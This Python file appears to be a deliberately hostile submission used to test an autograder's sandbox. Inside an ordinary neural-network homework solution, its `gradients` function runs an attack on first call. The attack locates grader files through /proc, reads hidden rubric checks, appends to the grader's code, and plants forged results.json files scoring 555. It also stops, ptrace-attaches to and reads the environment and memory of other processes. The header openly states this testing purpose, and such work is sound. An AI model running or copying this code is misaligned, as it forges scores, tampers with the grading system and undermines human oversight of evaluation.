# Hostile submission: attacks the grader itself (submissions/hostile/README.md).
# On the first call of `gradients` it looks for the grader's files: the installed
# packages (site-packages, an editable install's finder), the rubric, results.json and
# the output folders named on any process's command line (/proc/*/cmdline is world-
# readable), /proc/*/cwd, and Gradescope's /autograder. It reads the rubric, tries to append to each
# (the package's check logic, the rubric, run_autograder), to plant a results.json
# scoring 555 in each results folder, and to SIGSTOP, ptrace and read the environ and
# memory of every process that is not its own sandbox's (its ancestors, anything
# named "grader"). A stopped process is resumed at once and a trace detached: the
# test needs to know it could, not a hung suite. It prints what it found and the
# final line "grader_rewrite: gained ..." (nothing, or what worked).
# Its own gradients are zeros. In the bwrap and uid tiers nothing works; in the plain
# tier (the grader's own user, advisory) much does, which the report warns about.
# Untrusted on purpose: grade it only through the grader's sandbox, never import or run it.

import ctypes
import glob
import os
import re
import signal
import sys

import numpy as np

TAG = "# grader_rewrite was here\n"
_DONE = []


def _cmdline(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return [a.decode(errors="replace") for a in f.read().split(b"\0") if a]
    except OSError:
        return []


def _own_sandbox(pid):
    """This job's own processes (the runner and its manager/worker run launch.py)."""
    return pid == os.getpid() or any(a.endswith("launch.py") for a in _cmdline(pid))


def _site_dirs():
    found = set()
    for entry in sys.path:
        for name in ("numpy", "scipy", "jinja2"):
            linked = os.path.join(entry, name)
            if os.path.exists(linked):
                found.add(os.path.dirname(os.path.realpath(linked)))
    return found


def _package_files(folder):
    """The package's modules, and the check logic by name where the folder cannot be listed."""
    return {*glob.glob(os.path.join(folder, "*.py")), os.path.join(folder, "checks.py")}


def _targets():
    """Files to rewrite and folders to plant a results.json in."""
    files, folders = set(), set()
    for site in _site_dirs():
        for pkg in ("grader", "reference"):
            if os.path.exists(os.path.join(site, pkg)):
                files.update(_package_files(os.path.join(site, pkg)))
        for finder in glob.glob(os.path.join(site, "__editable__*mlp_grader*finder.py")):
            try:
                text = open(finder).read()
            except OSError:
                continue
            for path in re.findall(r"'(/[^']+/(?:grader|reference))'", text):
                files.update(_package_files(path))
    for pid in filter(str.isdigit, os.listdir("/proc")):
        args = _cmdline(pid)
        for flag, value in zip(args, args[1:]):
            if not value.startswith("/"):
                continue
            if flag == "--rubric":
                files.add(value)
            elif flag in ("--gradescope", "--json", "--junit", "--markdown"):
                files.add(value)
                folders.add(os.path.dirname(value))
            elif flag == "--out":
                folders.update([value, os.path.join(value, "results")])
        try:
            cwd = os.readlink(f"/proc/{pid}/cwd")
            files.update(glob.glob(os.path.join(cwd, "grader", "*.py")))
            files.update(glob.glob(os.path.join(cwd, "rubrics", "*.toml")))
        except OSError:
            pass
    files.update(["/autograder/run_autograder", "/autograder/source/rubric.toml"])
    folders.add("/autograder/results")
    return sorted(files), sorted(folders)


def _processes():
    """Every process but this sandbox's own: the ancestors first."""
    chain, pid = [], os.getppid()
    while pid > 1:
        chain.append(pid)
        try:
            with open(f"/proc/{pid}/stat", "rb") as f:
                raw = f.read()
            pid = int(raw[raw.rfind(b")") + 2 :].split()[1])
        except (OSError, ValueError, IndexError):
            break
    named = [int(p) for p in filter(str.isdigit, os.listdir("/proc"))
             if any("grader" in a for a in _cmdline(p))]
    return [p for p in dict.fromkeys(chain + named) if not _own_sandbox(p)]


def _attack():
    gained = []
    files, folders = _targets()
    print(f"grader_rewrite: {len(files)} files, {len(folders)} folders to try")
    for path in files:
        print(f"grader_rewrite: target {path}")
        if path.endswith(".toml"):  # the rubric: its hidden checks
            try:
                with open(path) as f:
                    hidden = f.read().count('visibility = "hidden"')
                gained.append(f"read {path} ({hidden} hidden checks)")
            except OSError:
                pass
        try:
            with open(path, "a") as f:
                f.write(TAG)
            gained.append(f"rewrote {path}")
        except OSError:
            pass
    for folder in folders:
        try:
            with open(os.path.join(folder, "results.json"), "w") as f:
                f.write('{"score": 555.0, "tests": []}\n')
            gained.append(f"planted {folder}/results.json")
        except OSError:
            pass
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in _processes():
        print(f"grader_rewrite: process {pid} {' '.join(_cmdline(pid))[:80]}")
        try:
            os.kill(pid, signal.SIGSTOP)
            os.kill(pid, signal.SIGCONT)
            gained.append(f"stopped {pid}")
        except OSError:
            pass
        if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
            gained.append(f"traced {pid}")
            try:
                os.waitpid(pid, 0x40000000)  # __WALL
            except OSError:
                pass
            libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
        for part in ("environ", "mem"):
            try:
                with open(f"/proc/{pid}/{part}", "rb") as f:
                    if part == "environ":
                        f.read(64)
                gained.append(f"opened /proc/{pid}/{part}")
            except OSError:
                pass
    print("grader_rewrite: gained " + ("; ".join(gained) if gained else "nothing"))


def sigmoid(Z):
    """phi(Z) = 1 / (1 + exp(-Z)), elementwise."""
    return 1.0 / (1.0 + np.exp(-Z))


def forward(params, X):
    """Forward pass. Returns the list [A1, A2, ..., A_{L+1}] with A1 = X."""
    L = len(params) // 2
    A = [X]
    for l in range(1, L + 1):
        Z = params[f"W{l}"] @ A[-1] + params[f"b{l}"]
        A.append(sigmoid(Z))
    return A


def cost(params, X, Y, C):
    """J = sum((Y - A_out)^2) + C/2 * sum of ||W_l||^2."""
    L = len(params) // 2
    A_out = forward(params, X)[-1]
    penalty = sum(np.sum(params[f"W{l}"] ** 2) for l in range(1, L + 1))
    return np.sum((Y - A_out) ** 2) + C / 2 * penalty


def gradients(params, X, Y, C):
    """Attacks the grader on the first call (see the top); its own gradients are zeros."""
    if not _DONE:
        _DONE.append(True)
        _attack()
    return {f"d{k}": np.zeros_like(v) for k, v in params.items()}


def momentum_step(params, grads, rho_prev, eta, alpha):
    """One step of momentum; rho_prev and the returned rho are keyed like params."""
    new_params, rho = {}, {}
    for name in params:
        rho[name] = eta * grads["d" + name]
        new_params[name] = params[name] - rho[name] - alpha * rho_prev[name]
    return new_params, rho


def learning_rate(eta0, d, epoch):
    """The learning rate of epoch `epoch` (0-based)."""
    return eta0 / (1 + d * epoch)


def one_hot(y, K):
    """Labels 0..K-1, shape (N,) -> one-hot targets (K, N)."""
    Y = np.zeros((K, len(y)))
    Y[y, np.arange(len(y))] = 1.0
    return Y


def predict(params, X):
    """Class indices argmax(A_out) per column, shape (N,)."""
    return np.argmax(forward(params, X)[-1], axis=0)


def train(params, X, y, orders, eta, alpha, C, d, minibatches):
    """Returns (params, cost (E,), accuracy (E+1,))."""
    L = len(params) // 2
    Y = one_hot(y, params[f"W{L}"].shape[0])
    params = {name: W.copy() for name, W in params.items()}
    rho = {name: np.zeros_like(W) for name, W in params.items()}
    costs, accuracy = [], [np.mean(predict(params, X) == y)]
    for epoch, order in enumerate(orders):
        eta_k = learning_rate(eta, d, epoch)
        for idx in np.array_split(order, minibatches):
            grads = gradients(params, X[:, idx], Y[:, idx], C)
            params, rho = momentum_step(params, grads, rho, eta_k, alpha)
        costs.append(cost(params, X, Y, C))
        accuracy.append(np.mean(predict(params, X) == y))
    return params, np.array(costs), np.array(accuracy)
